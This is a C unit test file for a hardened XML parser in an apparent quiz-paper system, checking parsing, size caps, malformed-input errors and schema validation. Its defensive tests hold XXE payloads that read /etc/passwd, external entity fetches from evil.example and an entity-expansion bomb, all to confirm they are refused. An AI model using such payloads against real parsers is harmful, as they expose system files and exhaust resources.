#include "format/xml.h"

#include <stdlib.h>
#include <unistd.h>

#include "format/findings_fixture.h"

static const char schema[] = "quizzes/schema/paper.rng";

static struct xml_node *read_text(const char *text)
{
    struct source source = source_of(text);

    return xml_parse(&findings, &source);
}

static char *many(const char *piece, size_t times)
{
    size_t size = strlen(piece);
    char *text = arena_alloc(arena, size * times + 1);

    for (size_t i = 0; i < times; i++)
        memcpy(text + i * size, piece, size);
    return text;
}

static void a_document_is_read(void **state)
{
    struct xml_node *root =
        read_text("<?xml version=\"1.0\" encoding='utf-8'?>\n<!-- <a> -->\n<a n=\"1 "
                  "&gt; 0\"\n m=''>"
                  "一&amp;<b/> 二\n  三<b x=\"y\">四</b>\n<![CDATA[<五>]]></a>");

    (void)state;
    assert_non_null(root);
    assert_string_equal(xml_name(root), "a");
    assert_int_equal(xml_line(root), 4);
    assert_string_equal(xml_attribute(arena, root, "n"), "1 > 0");
    assert_string_equal(xml_attribute(arena, root, "m"), "");
    assert_null(xml_attribute(arena, root, "x"));
    assert_string_equal(xml_text(arena, root), "一& 二\n  三四\n<五>");
    assert_string_equal(xml_token(arena, root), "一& 二 三四 <五>");
    struct xml_node *second = xml_next(xml_child(root, "b"), "b");
    assert_string_equal(xml_attribute(arena, second, "x"), "y");
    assert_null(xml_next(second, NULL));
    assert_null(xml_child(root, "c"));
}

static void doctype_and_entities_are_refused(void **state)
{
    static const char *const texts[] = {
        "<!DOCTYPE a [<!ENTITY x SYSTEM \"file:///etc/passwd\">]>\n<a>&x;</a>",
        "<!DOCTYPE a SYSTEM \"http://evil.example/x.dtd\"><a/>",
        "<!DOCTYPE a><a/>",
        "<?xml version=\"1.0\"?><!DOCTYPE a PUBLIC \"-\" \"x\"><a/>",
        "<!DOCTYPE a [<!ENTITY % x SYSTEM \"http://evil.example/\"> %x;]><a/>",
        "<!DOCTYPE l [<!ENTITY a \"ha\"><!ENTITY b \"&a;&a;&a;\">]><l>&b;</l>",
        "<a><!DOCTYPE b></a>",
        "<a><!ENTITY x \"y\"></a>",
        "<a b=\"<!DOCTYPE\"/>x<!DOCTYPE y>",
    };

    (void)state;
    for (size_t i = 0; i < COUNT_OF(texts); i++) {
        findings_begin(NULL);
        assert_null(read_text(texts[i]));
        assert_true(found(1, "DOCTYPE"));
    }
    findings_begin(NULL);
    assert_null(read_text("<a>&undefined;</a>"));
    assert_int_equal(findings.first->line, 1);
    /* In a comment, in character data and in a value the words are harmless. */
    findings_begin(NULL);
    assert_non_null(
        read_text("<a b='x'><!-- <!DOCTYPE x> --><![CDATA[<!DOCTYPE y>]]></a>"));
}

static void what_would_be_fetched_is_not_fetched(void **state)
{
    (void)state;
    /* Without XInclude these are plain elements. */
    struct xml_node *root =
        read_text("<?xml-stylesheet href=\"file:///etc/passwd\"?>\n"
                  "<a xmlns:xi=\"http://www.w3.org/2001/XInclude\" "
                  "xmlns:xsi=\"http://www.w3.org/2001/XMLSchema-instance\" "
                  "xsi:noNamespaceSchemaLocation=\"http://evil.example/\">"
                  "<xi:include href=\"/etc/passwd\" parse=\"text\"/></a>");
    assert_non_null(root);
    assert_string_equal(xml_text(arena, root), "");
}

static void caps_hold_before_parsing(void **state)
{
    const struct {
        const char *text;
        const char *words;
    } cases[] = {
        {arena_format(arena, "%s%s", many("<a>", 65), many("</a>", 65)), "最多 64 层"},
        {arena_format(arena, "%s", many("<a>", 100000)), "最多 64 层"},
        {arena_format(arena, "<a %s/>", many("b='' ", 65)), "最多 64 个"},
        {arena_format(arena, "<a %s/>", many("xmlns:c=\">\" ", 100000)), "最多 64 个"},
        {arena_format(arena, "<a>%s</a>", many("<b/>", 100001)), "200000"},
        {arena_format(arena, "<a>%s</a>", many("<!---->", 200001)), "200000"},
        {many("a", XML_LIMIT + 1), "5 MiB"},
    };

    (void)state;
    for (size_t i = 0; i < COUNT_OF(cases); i++) {
        int64_t before = processor_ms();
        findings_begin(NULL);
        assert_null(read_text(cases[i].text));
        assert_true(found(1, cases[i].words));
        assert_true(processor_ms() - before < 1000);
    }
    findings_begin(NULL);
    assert_non_null(
        read_text(arena_format(arena, "%s%s", many("<a>", 64), many("</a>", 64))));
    struct text attributes;
    text_init(&attributes, arena, 10000);
    for (int i = 0; i < 64; i++)
        text_add_format(&attributes, " b%d=\"'>\"", i);
    assert_non_null(read_text(arena_format(arena, "<a%s/>", attributes.bytes)));
}

static void what_is_not_well_formed_is_refused_with_its_line(void **state)
{
    static const struct {
        const char *text;
        int line;
        const char *words;
    } cases[] = {
        {"<a>\n<b>\n</a>", 3, "写法有误"},
        {"", 1, "写法有误"},
        {"<a>\n", 2, "写法有误"},
        {"<a b='1' b='2'/>", 1, "写法有误"},
        {"<a>\n&#0;</a>", 2, "控制字符"},
        {"<a>&#xD800;</a>", 1, "写法有误"},
        {"<a>\n\n&#x202e;</a>", 3, "控制字符"},
        {"<a>&#27;</a>", 1, "控制字符"},
        {"<a>\n<!-- x", 2, "不完整"},
        {"<a>\n<![CDATA[", 2, "不完整"},
        {"<a b='1>", 1, "不完整"},
        {"<a>\n<b", 2, "不完整"},
        {"<a>]]></a>", 1, "写法有误"},
        {"<a/><b/>", 1, "写法有误"},
        {"\n<?xml version='1.0'?><a/>", 2, "写法有误"},
        {"<?xml version='1.0' encoding='GB18030'?><a/>", 1, "UTF-8"},
        {"<?xml version='1.0' encoding=\"UTF-16\"?><a/>", 1, "UTF-8"},
        {"<?xml version='1.0' encoding='utf-7'?><a/>", 1, "UTF-8"},
    };

    (void)state;
    for (size_t i = 0; i < COUNT_OF(cases); i++) {
        findings_begin(NULL);
        assert_null(read_text(cases[i].text));
        assert_true(found(cases[i].line, cases[i].words));
    }
}

static void the_schema_is_kept(void **state)
{
    static const char head[] =
        "<paper "
        "xmlns=\"urn:xunsai:paper:1\">\n<title>T</title>\n<course>01-a</course>\n";
    static const char tail[] =
        "<shuffle questions=\"true\" options=\"true\"/>\n"
        "<multiple-response policy=\"cn_partial_prop\"/>\n"
        "<instructions>I</instructions>\n"
        "<part title=\"P\"><question ref=\"q\" points=\"5\"/></part>\n</paper>\n";
    const char *good =
        arena_format(arena, "%s<minutes>20</minutes><pass>60</pass>\n%s", head, tail);
    const char *bad =
        arena_format(arena, "%s<minutes>500</minutes><pass>60</pass>\n%s", head, tail);
    struct source source = source_of(good);

    (void)state;
    assert_non_null(xml_read(&findings, &source, schema));
    source = source_of(bad);
    assert_null(xml_read(&findings, &source, schema));
    assert_true(found(4, "不符合格式定义"));
    source = source_of("<other/>");
    assert_null(xml_read(&findings, &source, schema));
    source = source_of(good);
    assert_null(xml_read(&findings, &source, "quizzes/schema/missing.rng"));
    assert_true(found(0, "缺少"));
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        WITH_FINDINGS(a_document_is_read),
        WITH_FINDINGS(doctype_and_entities_are_refused),
        WITH_FINDINGS(what_would_be_fetched_is_not_fetched),
        WITH_FINDINGS(caps_hold_before_parsing),
        WITH_FINDINGS(what_is_not_well_formed_is_refused_with_its_line),
        WITH_FINDINGS(the_schema_is_kept),
    };

    return RUN_GROUP("xml", tests);
}
